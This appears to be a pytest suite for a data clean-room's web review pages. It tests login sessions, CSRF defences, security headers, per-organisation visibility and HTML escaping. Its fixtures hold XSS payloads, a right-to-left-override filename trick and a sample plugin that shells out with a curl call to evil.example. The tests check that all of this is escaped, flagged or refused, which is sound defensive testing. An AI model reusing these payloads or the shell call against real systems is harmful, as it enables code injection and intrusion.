"""The review page over real HTTP: login session, pages, visibility, escaping, CSRF, logout."""

from __future__ import annotations

import hashlib
import json
import re
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest

from cleanroom import bundle
from cleanroom.crypto import canonical_json
from cleanroom.store import audit
from cleanroom.store.db import dumps, new_id, now

SCRIPT = '<script>alert("owned")</script>'
POLICY_TEXT = """[privacy]\nmin_group_size = 10\n\n[outputs]\nallow = ["aggregate", "model"]\n"""
PLUGIN_CODE = f'''"""Drops rows. {SCRIPT}"""
import os

def preprocess(frame):
    os.system("curl evil.example")
    return frame.dropna()
'''


@dataclass
class Seeded:
    tokens: dict[str, str]
    ana_plugin: str
    ana_old_plugin: str
    bob_plugin: str
    job_id: str
    release_id: str


HOSTILE_COLUMN = "<img src=x onerror=alert(2)>\u202egnp.exe"
SCHEMA = {
    "columns": [
        {"name": "_pid", "type": "string", "nullable": False, "stats": {}},
        {"name": "age", "type": "integer", "nullable": False, "stats": {"min": 18, "max": 99}},
        {"name": "region", "type": "string", "nullable": True, "stats": {"categories": ["north", "south"]}},
        {"name": "income", "type": "number", "nullable": True, "stats": {}},
        {"name": HOSTILE_COLUMN, "type": "string", "nullable": True, "stats": {}},
    ]
}
STORED_POLICY = {
    "privacy": {"min_group_size": 10},
    "columns": {"income": {"rule": "never_output", "bounds": None}, "region": {"rule": "join_only", "bounds": None}},
}


def add_dataset(room: Any, owner_id: str, name: str, description: str) -> None:
    schema = SCHEMA
    mock = [{"_pid": f"p{i}", "age": 30 + i, "region": "north" if i % 2 else "south"} for i in range(5)]
    mock[0]["region"] = "<i>south</i>"
    with room.store.tx() as conn:
        conn.execute(
            "INSERT INTO datasets (name, owner_id, sha256, size, row_count, schema, mock, dropped,"
            " description, policy_version, created_at) VALUES (?,?,?,?,?,?,?,?,?,?,?)",
            (
                name,
                owner_id,
                hashlib.sha256(name.encode()).hexdigest(),
                4096,
                1000,
                dumps(schema),
                dumps(mock),
                dumps(["email"]),
                description,
                1,
                now(),
            ),
        )
        conn.execute(
            "INSERT INTO policies (dataset, version, text, policy, sha256, created_at) VALUES (?,?,?,?,?,?)",
            (name, 1, POLICY_TEXT, dumps(STORED_POLICY), "ab" * 32, now()),
        )
        audit.append(
            conn,
            actor="bank",
            action="dataset.created",
            object_type="dataset",
            object_id=name,
            details={"note": SCRIPT},
            ts=now(),
        )


def add_plugin(
    room: Any, folder: Path, org_id: str, name: str, version: str, code: str, findings: list[dict[str, Any]]
) -> str:
    folder.mkdir(parents=True)
    (folder / "cleanroom-plugin.toml").write_text(
        f'name = "{name}"\nversion = "{version}"\nkind = "preprocess"\nentry = "plugin.py"\n'
        'description = "drops rows with gaps"\n'
    )
    (folder / "plugin.py").write_text(code)
    archive = bundle.pack(folder)
    manifest = bundle.unpack(archive).manifest
    plugin_id = room.store.blobs.put_bytes(archive)
    with room.store.tx() as conn:
        conn.execute(
            "INSERT INTO plugins (id, name, version, kind, manifest, review, size, submitted_by,"
            " created_at) VALUES (?,?,?,?,?,?,?,?,?)",
            (
                plugin_id,
                name,
                version,
                "preprocess",
                dumps(manifest),
                dumps({"findings": findings}),
                len(archive),
                org_id,
                now(),
            ),
        )
    return plugin_id


def approve(room: Any, plugin_id: str, owner_id: str, dataset: str) -> None:
    with room.store.tx() as conn:
        sha = conn.execute("SELECT sha256 FROM datasets WHERE name = ?", (dataset,)).fetchone()[0]
        conn.execute(
            "INSERT INTO approvals (id, plugin_id, dataset, policy_version, dataset_sha256, org_id,"
            " decision, reason, payload, signature, created_at) VALUES (?,?,?,?,?,?,?,?,?,?,?)",
            (new_id("apr"), plugin_id, dataset, 1, sha, owner_id, "approve", "looks fine", "{}", "sig", now()),
        )


def isolation(image: str, *, warm: bool) -> dict[str, Any]:
    """One phase's isolation report, as the runner's launcher writes it into the receipt."""
    controls = dict.fromkeys(
        (
            "network",
            "read_only",
            "user",
            "cap_drop",
            "no_new_privileges",
            "seccomp",
            "pids",
            "memory",
            "swap",
            "cpu",
            "tmpfs",
            "ipc",
            "mounts",
            "privileged",
            "runtime",
        ),
        True,
    )
    return {
        **controls,
        "environment": ["PATH"],
        "seccomp_profile": "5e" * 32,
        "waived": [],
        "image": image,
        "limits": {"memory": "2g", "cpus": 1.0, "pids": 256, "timeout_seconds": 600},
        "warm": warm,
    }


def add_job_and_release(
    room: Any,
    analyst_id: str,
    recipient: str,
    dataset: str,
    *,
    plugin_id: str = "00" * 32,
    name: str = "churn-by-region",
    reason: str = "owner-only reason text",
) -> tuple[str, str]:
    job_id, release_id = new_id("job"), new_id("rel")
    spec = {"name": name, "inputs": [{"dataset": dataset}], "recipient": recipient}
    outputs = {
        "aggregates/by_region.csv": {"sha256": "cd" * 32, "bytes": 120},
        "model_card.md": {"sha256": "c0" * 32, "bytes": 2300},
    }
    manifest = {
        "job_id": job_id,
        "outputs": outputs,
        "checks": [
            {"name": "min_group_size", "passed": True, "detail": "smallest group 12 >= 10"},
            {"name": "never_output", "passed": True, "detail": SCRIPT},
        ],
        "epsilon_spent": 0.0,
        "recipient": recipient,
        "encrypted_to": sorted({recipient, "bank"}),
    }
    image = "sha256:" + "1a" * 32
    body = {
        "type": "cleanroom-receipt",
        "version": 1,
        "job_id": job_id,
        "spec_sha256": "5c" * 32,
        "plugins": {plugin_id: "drop-gaps@0.1.0"},
        "datasets": {
            dataset: {
                "sha256": hashlib.sha256(dataset.encode()).hexdigest(),
                "policy_version": 1,
                "policy_sha256": "ab" * 32,
            }
        },
        "approvals": ["a9" * 32],
        "image": image,
        "isolation": {
            "compute": isolation(image, warm=True),
            "mock": isolation(image, warm=False),
            "release": isolation(image, warm=True),
        },
        "dropped_columns": {dataset: ["income"]},
        "epsilon_spent": 0.0,
        "outputs": outputs,
        "manifest_sha256": hashlib.sha256(canonical_json(manifest)).hexdigest(),
    }
    receipt = {
        "body": body,
        "signature": "c2lnbmF0dXJl" * 8,
        "room_keys": {
            "enc_public": "age1room",
            "sign_public": "ed25519room",
            "fingerprint": "SHA256:62a56c893d8b244b726c29965d79f2b9",
        },
    }
    with room.store.tx() as conn:
        t = now()
        conn.execute(
            "INSERT INTO jobs (id, org_id, name, spec, effective_policy, status, phase, reason,"
            " created_at, started_at, finished_at) VALUES (?,?,?,?,?,?,?,?,?,?,?)",
            (
                job_id,
                analyst_id,
                spec["name"],
                dumps(spec),
                "{}",
                "succeeded",
                "release",
                reason,
                t - 60,
                t - 50,
                t - 8,
            ),
        )
        rec = conn.execute("SELECT id FROM orgs WHERE name = ?", (recipient,)).fetchone()[0]
        conn.execute(
            "INSERT INTO releases (id, job_id, recipient_id, manifest, receipt, review_by,"
            " created_at) VALUES (?,?,?,?,?,?,?)",
            (release_id, job_id, rec, dumps(manifest), dumps(receipt), dumps([dataset]), t),
        )
        conn.executemany(
            "INSERT INTO release_artifacts (release_id, name, blob, size) VALUES (?,?,?,?)",
            [(release_id, "aggregates/by_region.csv", "ef" * 32, 180), (release_id, "model_card.md", "fe" * 32, 2531)],
        )
    return job_id, release_id


def seed(room: Any, tmp_path: Path) -> Seeded:
    """Orgs (a data owner, two analysts) and rows for every page, written straight to the store."""
    bank, ana, bob = room.org("bank", "owner"), room.org("ana-co", "analyst"), room.org("bob-co", "analyst")
    ids = {name: c.whoami()["id"] for name, c in (("bank", bank), ("ana", ana), ("bob", bob))}
    add_dataset(room, ids["bank"], "customers", f"Retail customers {SCRIPT}")
    findings = [
        {
            "severity": "blocking",
            "file": "plugin.py",
            "line": 5,
            "rule": "forbidden-call",
            "message": "os.system runs a shell <img src=x onerror=alert(1)>",
        },
        {"severity": "warning", "file": "plugin.py", "line": 2, "rule": "import", "message": "imports os"},
    ]
    old = add_plugin(
        room, tmp_path / "old", ids["ana"], "drop-gaps", "0.1.0", "def preprocess(frame):\n    return frame\n", []
    )
    approve(room, old, ids["bank"], "customers")
    new = add_plugin(room, tmp_path / "new", ids["ana"], "drop-gaps", "0.2.0", PLUGIN_CODE, findings)
    bobs = add_plugin(
        room, tmp_path / "bob", ids["bob"], "bob-secret-model", "1.0.0", "def spec():\n    return {}\n", []
    )
    job_id, release_id = add_job_and_release(room, ids["ana"], "ana-co", "customers", plugin_id=old)
    return Seeded(
        tokens={"bank": bank.token or "", "ana": ana.token or "", "bob": bob.token or ""},
        ana_plugin=new,
        ana_old_plugin=old,
        bob_plugin=bobs,
        job_id=job_id,
        release_id=release_id,
    )


@pytest.fixture
def seeded(room: Any, tmp_path: Path) -> Seeded:
    return seed(room, tmp_path)


def csrf_of(page: str) -> str:
    match = re.search(r'name="csrf" value="([^"]+)"', page)
    assert match, "the form has no CSRF field"
    return match.group(1)


def browser(room: Any) -> httpx.Client:
    return httpx.Client(base_url=room.url, follow_redirects=False, timeout=30)


def login(room: Any, token: str) -> httpx.Client:
    client = browser(room)
    form = client.get("/ui/login")
    r = client.post("/ui/login", data={"token": token, "csrf": csrf_of(form.text)}, headers={"origin": room.url})
    assert r.status_code == 303, r.text
    return client


PAGES = ["/ui/datasets", "/ui/datasets/customers", "/ui/plugins", "/ui/jobs", "/ui/releases", "/ui/audit"]


def test_login_sets_a_strict_httponly_cookie_and_shows_the_pages(room, seeded):
    client = browser(room)
    form = client.get("/ui/login")
    assert form.status_code == 200 and 'name="token"' in form.text
    r = client.post(
        "/ui/login", data={"token": seeded.tokens["bank"], "csrf": csrf_of(form.text)}, headers={"origin": room.url}
    )
    assert r.status_code == 303 and r.headers["location"] == "/ui/datasets"
    cookie = next(c for c in r.headers.get_list("set-cookie") if c.startswith("cleanroom_session="))
    attrs = cookie.lower()
    assert "httponly" in attrs and "samesite=strict" in attrs and "path=/ui" in attrs
    assert "secure" not in attrs  # plain HTTP on loopback; HTTPS requests get Secure
    for path in PAGES:
        page = client.get(path)
        assert page.status_code == 200, (path, page.text)
        assert page.headers["content-type"].startswith("text/html")
        assert "bank (owner)" in page.text
    assert "customers" in client.get("/ui/datasets").text
    detail = client.get("/ui/datasets/customers").text
    assert "min_group_size = 10" in detail and "p3" in detail and "Mock sample" in detail
    assert "churn-by-region" in client.get("/ui/jobs").text
    assert seeded.release_id in client.get("/ui/releases").text
    assert client.get("/ui").headers["location"] == "/ui/datasets"


def test_security_headers_on_every_page(room, seeded):
    client = login(room, seeded.tokens["bank"])
    for response in (client.get("/ui/login"), client.get("/ui/audit"), httpx.get(room.url + "/ui/datasets")):
        headers = response.headers
        assert headers["content-security-policy"].startswith("default-src 'none'; style-src 'unsafe-inline'")
        assert headers["x-frame-options"] == "DENY"
        assert headers["referrer-policy"] == "no-referrer"
        assert headers["cache-control"] == "no-store"
        assert "<script" not in response.text.replace("&lt;script", "")
        assert "http://" not in response.text and "https://" not in response.text  # no external resources


@pytest.mark.parametrize("cookie", [None, "crt_0000.nope", "not-a-token", "crt_" + "a" * 16 + ".x y"])
def test_no_or_wrong_token_gets_the_login_page_and_no_data(room, seeded, cookie):
    cookies = {"cleanroom_session": cookie} if cookie else {}
    for path in PAGES + [f"/ui/plugins/{seeded.ana_plugin}", f"/ui/releases/{seeded.release_id}"]:
        r = httpx.get(room.url + path, cookies=cookies)
        assert r.status_code == 401
        assert 'name="token"' in r.text and 'class="error"' in r.text
        for secret in ("customers", "drop-gaps", "churn-by-region", "org.created", seeded.release_id):
            assert secret not in r.text
    if cookie:  # a bad cookie is cleared
        assert 'cleanroom_session=""' in r.headers.get("set-cookie", "")


def test_wrong_token_at_login_is_401_with_an_error(room, seeded):
    client = browser(room)
    form = client.get("/ui/login")
    r = client.post(
        "/ui/login",
        data={"token": seeded.tokens["bank"] + "x", "csrf": csrf_of(form.text)},
        headers={"origin": room.url},
    )
    assert r.status_code == 401 and "not valid" in r.text and 'name="token"' in r.text
    assert "cleanroom_session" not in r.headers.get("set-cookie", "")
    assert client.get("/ui/datasets").status_code == 401


def test_the_runner_token_cannot_log_in(room, seeded):
    client = browser(room)
    form = client.get("/ui/login")
    r = client.post(
        "/ui/login", data={"token": room.runner_token, "csrf": csrf_of(form.text)}, headers={"origin": room.url}
    )
    assert r.status_code == 403 and "cleanroom_session" not in r.headers.get("set-cookie", "")
    page = httpx.get(room.url + "/ui/datasets", cookies={"cleanroom_session": room.runner_token})
    assert page.status_code == 401 and "customers" not in page.text  # a token is never a session


def test_the_session_cookie_is_its_own_secret_not_the_org_token(room, seeded):
    client = login(room, seeded.tokens["bank"])
    session = client.cookies["cleanroom_session"]
    assert session.startswith("crs_") and seeded.tokens["bank"] not in session
    with room.store.read() as conn:
        stored = [r[0] for r in conn.execute("SELECT hash FROM web_sessions")]
    assert stored and session.partition(".")[2] not in stored  # hashed at rest
    as_token = httpx.get(room.url + "/ui/datasets", cookies={"cleanroom_session": seeded.tokens["bank"]})
    assert as_token.status_code == 401  # the long-lived org token does not open the page
    assert client.get("/ui/datasets").status_code == 200  # control


def test_an_analyst_does_not_see_another_analysts_plugin(room, seeded):
    ana = login(room, seeded.tokens["ana"])
    listing = ana.get("/ui/plugins").text
    assert "drop-gaps" in listing
    assert "bob-secret-model" not in listing and seeded.bob_plugin[:16] not in listing
    other = ana.get(f"/ui/plugins/{seeded.bob_plugin}")
    assert other.status_code == 404 and "def spec" not in other.text and "bob-secret-model" not in other.text
    assert ana.get(f"/ui/plugins/{seeded.ana_plugin}").status_code == 200
    bank = login(room, seeded.tokens["bank"])
    assert "bob-secret-model" in bank.get("/ui/plugins").text  # owners review every plugin


def test_jobs_page_shows_the_reason_to_owners_only(room, seeded):
    ana = login(room, seeded.tokens["ana"]).get("/ui/jobs").text
    bank = login(room, seeded.tokens["bank"]).get("/ui/jobs").text
    # the release waits for the owner's review: its analyst sees nothing released, no run time, no phase
    assert seeded.job_id in ana and "nothing_released" in ana and "succeeded" not in ana and "42.0 s" not in ana
    assert "succeeded" in bank and "42.0 s" in bank
    assert "owner-only reason text" not in ana and "owner-only reason text" in bank


def test_plugin_page_shows_code_with_line_numbers_findings_diff_and_commands(room, seeded):
    page = login(room, seeded.tokens["bank"]).get(f"/ui/plugins/{seeded.ana_plugin}").text
    assert '<tr class="line flag-blocking" id="f1-L5"><td class="n">5</td>' in page
    blocking_row = page.index('class="finding blocking"')
    assert page.index('id="f1-L5"') < blocking_row < page.index('id="f1-L6"')  # the finding sits under line 5
    assert 'class="line flag-warning" id="f1-L2"' in page
    assert "1 blocking finding(s)" in page
    assert f"cleanroom plugin approve {seeded.ana_plugin} --dataset customers" in page
    assert "Changes since the last approved version 0.1.0" in page
    assert '<span class="add">+    os.system(&quot;curl evil.example&quot;)</span>' in page
    assert "cleanroom-plugin.toml" in page and "drops rows with gaps" in page
    old = login(room, seeded.tokens["bank"]).get(f"/ui/plugins/{seeded.ana_old_plugin}").text
    assert "looks fine" in old and "Changes since" not in old


def test_attacker_controlled_values_are_escaped(room, seeded):
    client = login(room, seeded.tokens["bank"])
    for path in [
        f"/ui/plugins/{seeded.ana_plugin}",
        "/ui/datasets/customers",
        "/ui/audit",
        f"/ui/releases/{seeded.release_id}",
    ]:
        text = client.get(path).text
        assert SCRIPT not in text and "<img" not in text and "<i>south" not in text
    code = client.get(f"/ui/plugins/{seeded.ana_plugin}").text
    assert "&lt;script&gt;alert(&quot;owned&quot;)&lt;/script&gt;" in code
    assert "os.system runs a shell &lt;img src=x onerror=alert(1)&gt;" in code
    assert "&lt;i&gt;south&lt;/i&gt;" in client.get("/ui/datasets/customers").text
    missing = client.get("/ui/datasets/%3Cscript%3E")
    assert missing.status_code == 404 and "<script>" not in missing.text


def test_release_page_shows_checks_state_and_the_approve_command(room, seeded):
    page = login(room, seeded.tokens["bank"]).get(f"/ui/releases/{seeded.release_id}").text
    assert "min_group_size" in page and "smallest group 12 &gt;= 10" in page
    assert "waits for customers" in page
    assert f"cleanroom release approve {seeded.release_id}" in page
    assert "aggregates/by_region.csv" in page
    assert f"cleanroom release reject {seeded.release_id}" in page
    with room.store.tx() as conn:  # an owner rejected it (the signed route is tested in test_e2e)
        conn.execute(
            "INSERT INTO release_rejections (release_id, dataset, org_id, reason, payload, signature,"
            " created_at) VALUES (?,?,?,?,?,?,?)",
            (seeded.release_id, "customers", "x", "<b>too fine</b>", "{}", "", 0.0),
        )
    page = login(room, seeded.tokens["bank"]).get(f"/ui/releases/{seeded.release_id}").text
    assert "rejected by customers" in page and "&lt;b&gt;too fine&lt;/b&gt;" in page
    assert "cleanroom release approve" not in page


def test_audit_page_shows_events_and_the_chain_status(room, seeded):
    client = login(room, seeded.tokens["bank"])
    page = client.get("/ui/audit").text
    assert "The hash chain verifies" in page and "org.created" in page and "dataset.created" in page
    ana = login(room, seeded.tokens["ana"]).get("/ui/audit").text  # the bank's dataset is not about ana-co
    assert "The hash chain verifies" in ana and "redacted (not about you)" in ana and "dataset.created" not in ana
    with room.store.tx() as conn:
        conn.execute("UPDATE audit SET details = ? WHERE seq = 2", (json.dumps({"forged": True}),))
    broken = client.get("/ui/audit").text
    assert "BROKEN at event 2" in broken and "changed after it was written" in broken


def test_unknown_pages_are_404_html(room, seeded):
    client = login(room, seeded.tokens["bank"])
    for path in ("/ui/nothing", "/ui/datasets/nope", "/ui/releases/nope", "/ui/plugins/nope", "/ui/logout"):
        r = client.get(path)
        assert r.status_code in (404, 405) and r.headers["content-type"].startswith("text/html"), path


def test_cross_origin_posts_are_refused(room, seeded):
    client = browser(room)
    token = csrf_of(client.get("/ui/login").text)
    good = {"token": seeded.tokens["bank"], "csrf": token}
    attacks = [
        (good, {"origin": "https://evil.example"}),
        (good, {"origin": room.url, "sec-fetch-site": "cross-site"}),
        ({"token": seeded.tokens["bank"]}, {"origin": room.url}),  # no CSRF token
        ({**good, "csrf": "x" * 43}, {"origin": room.url}),  # a wrong one
    ]
    for data, headers in attacks:
        r = client.post("/ui/login", data=data, headers=headers)
        assert r.status_code == 403, (data, headers)
        assert "cleanroom_session" not in r.headers.get("set-cookie", "")
    crowded = "&".join(f"f{i}=1" for i in range(50))
    form_type = {"content-type": "application/x-www-form-urlencoded"}
    r = client.post("/ui/login", content=crowded, headers={"origin": room.url, **form_type})
    assert r.status_code == 403  # a form with too many fields is no form
    # without the CSRF cookie (a cross-site form never sends a SameSite=Strict cookie)
    r = httpx.post(room.url + "/ui/login", data=good, headers={"origin": "null"})
    assert r.status_code == 403
    # logout from another site leaves the session alone
    session = login(room, seeded.tokens["bank"])
    token = csrf_of(session.get("/ui/datasets").text)
    r = session.post("/ui/logout", data={"csrf": token}, headers={"origin": "https://evil.example"})
    assert r.status_code == 403 and session.get("/ui/datasets").status_code == 200
    # the same-site form posts of a browser that hides its origin (Referrer-Policy no-referrer) pass
    r = session.post("/ui/logout", data={"csrf": token}, headers={"origin": "null", "sec-fetch-site": "same-origin"})
    assert r.status_code == 303


def test_logout_clears_the_cookie(room, seeded):
    client = login(room, seeded.tokens["bank"])
    page = client.get("/ui/datasets")
    assert page.status_code == 200 and 'action="/ui/logout"' in page.text
    r = client.post("/ui/logout", data={"csrf": csrf_of(page.text)}, headers={"origin": room.url})
    assert r.status_code == 303 and r.headers["location"] == "/ui/login"
    cleared = next(c for c in r.headers.get_list("set-cookie") if c.startswith("cleanroom_session="))
    assert 'cleanroom_session=""' in cleared and "max-age=0" in cleared.lower()
    after = client.get("/ui/datasets")
    assert after.status_code == 401 and "customers" not in after.text
    stolen = httpx.get(
        room.url + "/ui/datasets",
        cookies={"cleanroom_session": page.request.headers["cookie"].split("cleanroom_session=")[1].split(";")[0]},
    )
    assert stolen.status_code == 401  # the session is revoked on the server, not only forgotten


def test_a_bearer_header_is_not_needed_and_json_api_is_unchanged(room, seeded):
    r = httpx.get(room.url + "/datasets", cookies={"cleanroom_session": seeded.tokens["bank"]})
    assert r.status_code == 401  # the cookie only works for the page, never for the JSON API
    spec = httpx.get(room.url + "/openapi.json").json()
    assert not any(p.startswith("/ui") for p in spec["paths"])


def test_the_cookies_are_secure_over_https(room, seeded):
    # uvicorn trusts X-Forwarded-Proto from loopback, as from a TLS-terminating proxy on the host
    client = browser(room)
    form = client.get("/ui/login", headers={"x-forwarded-proto": "https"})
    assert "secure" in form.headers["set-cookie"].lower()
    csrf = form.cookies["cleanroom_csrf"]
    data = {"token": seeded.tokens["bank"], "csrf": csrf}
    https = {"x-forwarded-proto": "https", "cookie": f"cleanroom_csrf={csrf}"}
    r = httpx.post(
        room.url + "/ui/login", data=data, headers={**https, "origin": room.url.replace("http://", "https://")}
    )
    assert r.status_code == 303
    assert "secure" in next(c for c in r.headers.get_list("set-cookie") if "cleanroom_session=" in c).lower()
    mixed = httpx.post(room.url + "/ui/login", data=data, headers={**https, "origin": room.url})
    assert mixed.status_code == 403  # an http:// origin is another origin than the https:// page


def outside_details(page: str) -> str:
    """The page without its <details> blocks (the raw JSON for experts), cells without their layout class."""
    return re.sub(r"<details>.*?</details>", "", page, flags=re.S).replace('<td class="nw">', "<td>")


def test_release_page_shows_the_manifest_and_receipt_as_tables_not_json(room, seeded):
    page = login(room, seeded.tokens["bank"]).get(f"/ui/releases/{seeded.release_id}").text
    visible = outside_details(page)
    # the raw JSON is there for experts, in one closed <details>, and nowhere else
    assert page.count("<details>") == 1 and "<details open" not in page
    assert "Raw manifest and receipt (JSON)" in page and "&quot;manifest_sha256&quot;:" in page
    assert "&quot;outputs&quot;:" not in visible and "&quot;isolation&quot;" not in visible
    assert "{" not in visible.split("<main>")[1]
    assert "<pre>" not in visible  # only the copy-paste commands are preformatted
    # outputs: name, kind, the manifest's plaintext size, a short sha256 (whole in the tooltip), the ciphertext size
    row = re.search(r"<tr><td><code>aggregates/by_region.csv</code></td>(.*?)</tr>", visible).group(1)
    assert "aggregate table" in row and ">120 B<" in row and ">180 B<" in row
    assert f'title="{"cd" * 32}">{"cd" * 8}…</code>' in row
    card = re.search(r"<tr><td><code>model_card.md</code></td>(.*?)</tr>", visible).group(1)
    assert "model card" in card and ">2,300 B<" in card and ">2,531 B<" in card
    assert "plaintext size" in visible and "encrypted size" in visible
    # checks, then the receipt's body: plugins with their ids, datasets with data hashes and policy versions
    assert "Release checks (2 of 2 passed)" in visible and "smallest group 12 &gt;= 10" in visible
    assert "drop-gaps@0.1.0" in visible and f'href="/ui/plugins/{seeded.ana_old_plugin}"' in visible
    datasets_row = re.search(r"<tr><td>customers</td>(.*?)</tr>", visible).group(1)
    assert "v1" in datasets_row and hashlib.sha256(b"customers").hexdigest() in datasets_row
    assert "income" in datasets_row  # left out of the input (never_output)
    assert "the manifest shown here" in visible and "NOT the manifest" not in visible
    assert f'title="{"a9" * 32}"' in visible  # the covering approval's hash
    # isolation: one compact row per phase
    for phase in ("compute", "mock", "release"):
        assert f'<tr><td>{phase}</td><td><span class="badge ok">all 15 enforced</span>' in visible
    assert "SHA256:62a56c893d8b244b726c29965d79f2b9" in visible and "cleanroom receipt verify" in visible


def test_release_page_flags_a_receipt_for_another_manifest_and_unenforced_controls(room, seeded):
    with room.store.tx() as conn:
        receipt = json.loads(
            conn.execute("SELECT receipt FROM releases WHERE id = ?", (seeded.release_id,)).fetchone()[0]
        )
        receipt["body"]["manifest_sha256"] = "00" * 32
        receipt["body"]["isolation"]["compute"].update(network=False, waived=["network"])
        conn.execute("UPDATE releases SET receipt = ? WHERE id = ?", (dumps(receipt), seeded.release_id))
    visible = outside_details(login(room, seeded.tokens["bank"]).get(f"/ui/releases/{seeded.release_id}").text)
    assert "NOT the manifest shown here" in visible
    assert "14 of 15" in visible and "not enforced: network" in visible and "waived: network" in visible
    assert '<tr><td>release</td><td><span class="badge ok">all 15 enforced</span>' in visible  # control


def test_dataset_page_renders_the_schema_facts(room, seeded):
    page = outside_details(login(room, seeded.tokens["bank"]).get("/ui/datasets/customers").text)
    assert (
        "nullable=" not in page
        and "stats=" not in page
        and "{" not in outside_details(page).split("<main>")[1].split("<h2>Policy")[0]
    )

    def row(column: str) -> str:
        return re.search(rf"<tr><td><code>{re.escape(column)}</code></td>(.*?)</tr>", page).group(1)

    assert re.fullmatch(
        r"<td>integer</td><td>no</td><td><span class=\"badge\">allowed</span></td>"
        r"<td>bounds <span class=\"nowrap\">\[18, 99\]</span></td>",
        row("age"),
    ), row("age")
    assert (
        "<td>yes</td>" in row("region")
        and "join_only" in row("region")
        and "2 categories: north, south" in row("region")
    )
    assert "never_output" in row("income") and "nothing published" in row("income")
    assert "join key" in row("_pid") and "<td>no</td>" in row("_pid")
    assert "encrypted size" in page and "4,096 B" in page


def test_approvals_for_an_older_policy_version_are_stale_not_current(room, seeded):
    bank = login(room, seeded.tokens["bank"])
    plugin = f"/ui/plugins/{seeded.ana_old_plugin}"
    before = bank.get(plugin).text
    assert '<span class="badge ok">current</span>' in before and "stale" not in before  # control
    assert "stale" not in bank.get("/ui/plugins").text
    shown = bank.get("/ui/datasets/customers").text
    assert "drop-gaps 0.1.0" in shown and '<span class="badge ok">current</span>' in shown
    with room.store.tx() as conn:  # the owner publishes policy version 2
        conn.execute(
            "INSERT INTO policies (dataset, version, text, policy, sha256, created_at) VALUES (?,?,?,?,?,?)",
            ("customers", 2, POLICY_TEXT, dumps(STORED_POLICY), "cd" * 32, now()),
        )
        conn.execute("UPDATE datasets SET policy_version = 2 WHERE name = 'customers'")
    after = bank.get(plugin).text
    assert "stale: given for v1, the current policy is v2" in after
    assert '<span class="badge ok">current</span>' not in after
    assert "customers: stale" in bank.get("/ui/plugins").text
    shown = bank.get("/ui/datasets/customers").text
    assert "stale: given for v1, the current policy is v2" in shown and 'badge ok">current' not in shown
    ana = login(room, seeded.tokens["ana"]).get(plugin).text  # the analyst's view says the same
    assert "stale: given for v1, the current policy is v2" in ana


def test_the_dataset_page_shows_only_approvals_of_plugins_the_caller_may_see(room, seeded):
    with room.store.read() as conn:
        bank_id = conn.execute("SELECT id FROM orgs WHERE name = 'bank'").fetchone()[0]
    approve(room, seeded.bob_plugin, bank_id, "customers")
    assert "bob-secret-model" in login(room, seeded.tokens["bank"]).get("/ui/datasets/customers").text
    ana = login(room, seeded.tokens["ana"]).get("/ui/datasets/customers").text
    assert "bob-secret-model" not in ana and seeded.bob_plugin not in ana
    assert "drop-gaps 0.1.0" in ana  # control: its own plugin's approval


def test_hostile_column_and_plugin_names_are_text(room, seeded):
    hostile = '<b onmouseover="x()">drop\u202egaps</b>'
    with room.store.tx() as conn:
        conn.execute("UPDATE plugins SET name = ? WHERE id = ?", (hostile, seeded.ana_old_plugin))
    bank = login(room, seeded.tokens["bank"])
    for path in ("/ui/plugins", f"/ui/plugins/{seeded.ana_old_plugin}", "/ui/datasets/customers"):
        page = bank.get(path).text
        assert "<b " not in page and "\u202e" not in page, path
        assert "&lt;b onmouseover=&quot;x()&quot;&gt;drop" in page, path
        assert '<span class="hidden-char" title="hidden character">&lt;U+202E&gt;</span>gaps' in page, path
    page = bank.get("/ui/datasets/customers").text
    assert "<img" not in page and "\u202e" not in page
    assert (
        '<code>&lt;img src=x onerror=alert(2)&gt;<span class="hidden-char" title="hidden character">'
        "&lt;U+202E&gt;</span>gnp.exe</code>"
    ) in page


def test_a_hostile_value_in_a_tooltip_stays_in_its_attribute(room, seeded):
    hostile = 'ab" onmouseover="alert(3)\u202e'
    with room.store.tx() as conn:
        receipt = json.loads(
            conn.execute("SELECT receipt FROM releases WHERE id = ?", (seeded.release_id,)).fetchone()[0]
        )
        receipt["body"]["spec_sha256"] = hostile
        conn.execute("UPDATE releases SET receipt = ? WHERE id = ?", (dumps(receipt), seeded.release_id))
    page = outside_details(login(room, seeded.tokens["bank"]).get(f"/ui/releases/{seeded.release_id}").text)
    assert 'onmouseover="' not in page and "\u202e" not in page
    # in the tooltip the hidden character is spelled out (an attribute holds no markup), in the text it is a marker
    assert 'title="ab&quot; onmouseover=&quot;alert(3)&lt;U+202E&gt;"' in page
    assert 'ab&quot; onmouseover=&quot;alert(3)<span class="hidden-char"' in page
